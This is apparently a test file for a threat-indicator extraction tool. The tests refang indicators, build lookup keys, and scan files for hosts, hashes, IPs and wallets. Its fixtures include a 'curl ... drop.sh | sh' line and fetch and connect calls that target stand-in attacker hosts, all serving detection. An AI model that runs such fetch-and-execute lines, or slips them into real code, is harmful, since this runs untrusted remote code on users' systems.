import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { memorySource } from '../inventory/source.ts';
import { processorMs } from '../testing/processor-ms.ts';
import { collectIndicators } from './collect.ts';
import { extractIndicators } from './extract.ts';
import { indicatorQuery } from './keys.ts';
import { refang } from './refang.ts';

describe('an indicator as a feed writes it', () => {
  test.each([
    ['hxxps://evil[.]example/a', 'https://evil.example/a'],
    ['hXXp://evil(dot)example', 'http://evil.example'],
    ['10[.]0[.]0[.]1', '10.0.0.1'],
    ['who[@]evil[.]example', 'who@evil.example'],
    ['hxxp[:]//evil[.]example', 'http://evil.example'],
    ['evil\\.example', 'evil.example'],
    ['plain text [1] stays', 'plain text [1] stays'],
  ])('%s is %s', (written, plain) => {
    expect(refang(written)).toBe(plain);
  });

  test.each([
    ['hxxps://evil[.]example/drop.sh?x=1', ['url:evil.example/drop.sh']],
    ['https://Evil.Example/', ['name:evil.example']],
    ['evil[.]example:8080', ['name:evil.example']],
    ['203.0.113.9:443', ['ip:203.0.113.9']],
    ['2001:DB8::9', ['ip:2001:db8::9']],
    ['300.1.1.1', []],
    ['who@evil.example', ['email:who@evil.example']],
    ['D41D8CD98F00B204E9800998ECF8427E', ['hash:d41d8cd98f00b204e9800998ecf8427e']],
    [
      'sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      ['hash:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
    ],
    ['setup_bun.js', ['name:setup_bun.js']],
    ['0x52908400098527886E0F7030069857D2E4169EE7', ['token:0x52908400098527886E0F7030069857D2E4169EE7']],
    ['a suspicious post-install step', []],
  ])('%s is looked up as %j', (indicator, keys) => {
    expect(indicatorQuery(indicator).keys).toEqual(keys);
  });
});

const keysIn = (path: string, text: string) =>
  extractIndicators(path, text).map(({ key, line }) => `${key}@${line}`);

describe('a text gives up its indicators', () => {
  test('an address, its host and the domains above it, at the line where they stand', () => {
    expect(keysIn('a.yml', 'x: 1\nrun: curl https://cdn.evil.example/drop.sh?y | sh')).toEqual([
      'url:cdn.evil.example/drop.sh@2',
      'name:cdn.evil.example@2',
      'name:evil.example@2',
      'name:drop.sh@2',
    ]);
  });

  test('in code, a name stands in quotes, after an at sign or in an address; a member access is none', () => {
    const names = (text: string) => keysIn('a.js', text).filter((key) => key.startsWith('name:'));
    expect(names('console.log(process.env)')).toEqual([]);
    expect(names('connect("evil.example")')).toEqual(['name:evil.example@1']);
    expect(names("fetch('//evil.example/x')")).toEqual(['name:evil.example@1']);
  });

  test('a digest is the same in a lock file in base64 and in a feed in hexadecimal digits', () => {
    const empty = '47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=';
    const [key] = indicatorQuery('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855').keys;
    expect(keysIn('package-lock.json', `"integrity": "sha256-${empty}"`)).toContain(`${key}@1`);
  });

  test('a word that only looks like a digest in base64 gives none, and breaks nothing off', () => {
    for (const length of [27, 29, 33, 41, 45, 85])
      for (const padding of ['', '=', '=='])
        expect(() => keysIn('a.js', `integrity: 'sha256-${'A'.repeat(length)}${padding}'`)).not.toThrow();
  });

  test('IPv4 and IPv6 addresses, e-mail addresses, wallets', () => {
    const text =
      'c2 203.0.113.9 or 2001:db8::9, pay bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh, ask who@evil.example.';
    expect(keysIn('notes.txt', text)).toEqual(
      expect.arrayContaining([
        'ip:203.0.113.9@1',
        'ip:2001:db8::9@1',
        'token:bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh@1',
        'email:who@evil.example@1',
      ]),
    );
  });

  test('a megabyte of one line costs no more than its first part', async () => {
    const hostile = `${'a.'.repeat(500_000)} ${':'.repeat(500_000)}`;
    expect(await processorMs(() => extractIndicators('a.txt', hostile))).toBeLessThan(2000);
  });
});

describe('a source', () => {
  test('is gone through whole: file names count, and what was not searched is named', async () => {
    const source = memorySource({
      'ci/.github/workflows/x.yml': 'run: curl evil.example',
      'lib/setup_bun.js': '1',
      'logo.png': new Uint8Array([0x89, 0x50, 0, 0xff, 0xfe]),
      'hidden.js': '/* \0 */ fetch("http://hidden.example")',
    });
    const { places, unsearched } = await collectIndicators(source);
    expect(places).toContainEqual({ key: 'name:evil.example', file: 'ci/.github/workflows/x.yml', line: 1 });
    expect(places).toContainEqual({ key: 'name:setup_bun.js', file: 'lib/setup_bun.js', line: 1 });
    expect(places).toContainEqual({ key: 'name:hidden.example', file: 'hidden.js', line: 1 });
    expect(unsearched).toEqual([{ path: 'logo.png', reason: 'binary' }]);
  });

  test('is known by the digests of its files, of text and of programs', async () => {
    const files = { 'a.js': Buffer.from('harm();\n'), 'bin/x': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]) };
    const { places } = await collectIndicators(memorySource(files));
    for (const [file, bytes] of Object.entries(files)) {
      for (const algorithm of ['md5', 'sha1', 'sha256']) {
        const key = `hash:${createHash(algorithm).update(bytes).digest('hex')}`;
        expect(places).toContainEqual({ key, file, line: 1 });
      }
    }
  });

  test('with too many forms keeps the first ones and names the files it left out', async () => {
    const files = Object.fromEntries(Array.from({ length: 5 }, (_, n) => [`f${n}.txt`, `host${n}.example`]));
    const { places, unsearched } = await collectIndicators(memorySource(files), { limits: { maxPlaces: 4 } });
    expect(places).toHaveLength(4);
    expect(unsearched.map(({ reason }) => reason)).toContain('too-many');
  });

  test('that is no longer wanted is left at once', async () => {
    const signal = AbortSignal.abort(new Error('cancelled'));
    await expect(collectIndicators(memorySource({ a: 'b' }), { signal })).rejects.toThrow('cancelled');
  });
});
